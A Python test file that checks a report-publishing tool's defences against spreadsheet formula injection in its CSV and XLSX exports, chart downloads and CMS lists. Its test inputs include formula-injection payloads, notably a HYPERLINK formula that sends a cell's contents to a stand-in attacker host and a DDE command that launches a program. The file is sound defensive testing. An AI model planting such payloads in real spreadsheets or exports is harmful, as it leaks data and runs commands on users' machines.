"""Spreadsheets out are data, never formulas (issue 22): the template, results.csv/.xlsx, every
chart's "下载数据 CSV" and the CMS lists write formula-like text as text, through one function each
(`escape.csv_cells`, `escape.data_cells`); numbers are never in exponent form; the import takes the
apostrophe off again only before a formula-like start. The tool's own files import back whole.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from conftest import EDITION, EDITION_YAML, REGISTRY, RESULTS
from lxml import etree

from reportsite.authoring import importer, template
from reportsite.authoring.sheets import read_csv
from reportsite.model.escape import csv_cells, plain_decimal, unprefixed
from reportsite.publish.cms import Article, manifest_csv
from reportsite.read.check import check_archive
from reportsite.render import exports
from reportsite.render.charts.figure import csv_text, figure_html
from reportsite.render.charts.place import EditionCharts

HOSTILE = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", '=HYPERLINK("http://evil.example/?"&B3,"点击")',
           "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
"""Text a spreadsheet would run as a formula (tab and CR first too)."""


def names_project(project, names: list[str]):
    """The fixture project, each of its five alliances named by one hostile text (in YAML quotes)."""
    codes = ["104", "110", "201", "233", "D106"]
    project.write(REGISTRY, "".join(f'- code: "{code}"\n  name: "{name.replace(chr(34), chr(92) + chr(34))}"\n'
                                    .replace("\t", "\\t").replace("\r", "\\r")
                                    for code, name in zip(codes, names)))
    archive, problems = project.check()
    return archive, problems


def sheet_xml(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {n: zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/")}


def test_the_template_writes_formula_like_names_as_text_and_imports_them_back(project, tmp_path):
    archive, problems = names_project(project, HOSTILE[:5])
    assert archive is not None, problems
    edition = archive.edition(EDITION)
    data = template.to_bytes(template.workbook(archive, edition, filled=True), edition.published)
    for name, xml in sheet_xml(data).items():
        assert etree.fromstring(xml).find(".//{*}f") is None, name
    book = openpyxl.load_workbook(io.BytesIO(data))
    results = book["评价结果"]
    shown = {results.cell(row=r, column=2).value: results.cell(row=r, column=3) for r in range(2, 5)}
    for code, cell in shown.items():
        assert cell.data_type == "s" and cell.value == archive.alliance(code).name and cell.quotePrefix
    path = tmp_path / "book.xlsx"
    path.write_bytes(data)
    plan = importer.plan_import("data", EDITION, str(path))
    assert [(str(p.loc), p.slug) for p in plan.problems if p.severity == "error"] == []


def test_results_csv_and_xlsx_write_them_as_text(project):
    archive, problems = names_project(project, HOSTILE[:5])
    files = exports.download_files(archive, archive.edition(EDITION))
    rows = list(csv.reader(io.StringIO(files["results.csv"].decode("utf-8-sig"))))
    by_code = {row[1]: row[2] for row in rows[1:]}
    assert by_code == {code: "'" + archive.alliance(code).name for code in by_code}
    for name, xml in sheet_xml(files["results.xlsx"]).items():
        assert etree.fromstring(xml).find(".//{*}f") is None, name


def chart_csvs(archive, edition) -> list[str]:
    charts = EditionCharts(archive, edition)
    specs = [charts.place(False, kind="bar", by="tier"), charts.place(False, kind="bar", by="group")]
    for spec in specs:
        # The CSV a reader downloads is the figure's data: address.
        html = str(figure_html(spec))
        assert "data:text/csv;charset=utf-8," in html
    return [csv_text(spec) for spec in specs]


@pytest.mark.parametrize("name", HOSTILE[4:6], ids=["hyperlink", "dde"])
def test_a_chart_s_csv_writes_a_group_or_tier_name_as_text(project, name):
    escaped = name.replace('"', '\\"')
    project.replace(EDITION_YAML, "name: 活跃度较高", f'name: "{escaped}"')
    project.replace(EDITION_YAML, "name: 第一批试点联盟", f'name: "{escaped}1"')
    archive, problems = project.check()
    assert archive is not None, problems
    tier_csv, group_csv = chart_csvs(archive, archive.edition(EDITION))
    tier_cells = [row[0] for row in csv.reader(io.StringIO(tier_csv.lstrip("\ufeff")))]
    group_cells = [row[0] for row in csv.reader(io.StringIO(group_csv.lstrip("\ufeff")))]
    assert "'" + name in tier_cells and name not in tier_cells
    assert "'" + name + "1" in group_cells and name + "1" not in group_cells


def test_the_cms_lists_write_them_as_text():
    article = Article(1, EDITION, f"{EDITION}/index.html", "=HYPERLINK(\"http://x\")", "@栏目", "2022-02-01 00:00",
                      "-来源", "+关键词", "=1+1")
    row = list(csv.reader(io.StringIO(manifest_csv([article]).decode("utf-8-sig"))))[1]
    assert row == ["1", EDITION, f"{EDITION}/index.html", "'=HYPERLINK(\"http://x\")", "'@栏目", "2022-02-01 00:00",
                   "'-来源", "'+关键词", "'=1+1"]


@pytest.mark.parametrize("value, written", [
    (1e-05, "0.00001"), (2.5e-10, "0.00000000025"), (1e20, "100000000000000000000"), (85.5, "85.5"),
    (100.0, "100"), (-1e-07, "-0.0000001"), (3, "3"),
])
def test_numbers_are_never_in_exponent_form(value, written):
    assert plain_decimal(value) == written and csv_cells([value]) == [written]


def evaluated_rows(data: bytes, path) -> None:
    """results.csv as downloaded, its evaluated rows kept (as a secretariat re-imports it)."""
    text = data.decode("utf-8-sig")
    path.write_text("".join(line for line in text.splitlines(keepends=True) if "数据不完整" not in line),
                    encoding="utf-8")


def test_a_score_of_1e_05_goes_out_as_csv_and_comes_back(project, tmp_path):
    project.replace(RESULTS, "score: 72}", "score: 0.00001}")
    archive, problems = project.check()
    assert archive is not None, problems
    data = exports.download_files(archive, archive.edition(EDITION))["results.csv"]
    assert b"0.00001" in data and b"e-05" not in data
    path = tmp_path / "results.csv"
    evaluated_rows(data, path)
    plan = importer.plan_import("data", EDITION, str(path))
    assert [(str(p.loc), p.slug) for p in plan.problems if p.severity == "error"] == []
    importer.write_import(plan, str(tmp_path / "backup"))
    archive, _ = check_archive("data")
    assert [r.score for r in archive.edition(EDITION).evaluated if r.code == "104"] == [0.00001]


@pytest.mark.parametrize("cell, read", [
    ("'=1+1", "=1+1"), ("'+1", "+1"), ("'-1", "-1"), ("'@SUM(1)", "@SUM(1)"), ("'\t=1", "\t=1"),
    ("'abc", "'abc"), ("'", "'"), ("''=1", "''=1"), ("'1", "'1"), ("O'Brien", "O'Brien"),
])
def test_the_import_takes_the_apostrophe_off_only_before_a_formula_like_start(cell, read, tmp_path):
    assert unprefixed(cell) == read
    path = tmp_path / "x.csv"
    path.write_text(f'a,"{cell}"\n', encoding="utf-8")
    assert read_csv(str(path)).sheets[0].rows[0][1].value == read.strip()


def test_a_formula_like_name_round_trips_through_the_csv_download(project, tmp_path):
    archive, problems = names_project(project, HOSTILE[:5])
    data = exports.download_files(archive, archive.edition(EDITION))["results.csv"]
    path = tmp_path / "results.csv"
    evaluated_rows(data, path)
    plan = importer.plan_import("data", EDITION, str(path))
    assert [(str(p.loc), p.slug) for p in plan.problems if p.severity == "error"] == []
    names = {code: name for code, name in [(r.code, r.name.value) for r in
                                           importer.sheet_results(read_csv(str(path)).sheets[0],
                                                                  archive.edition(EDITION), [])]}
    assert names == {code: archive.alliance(code).name for code in names}
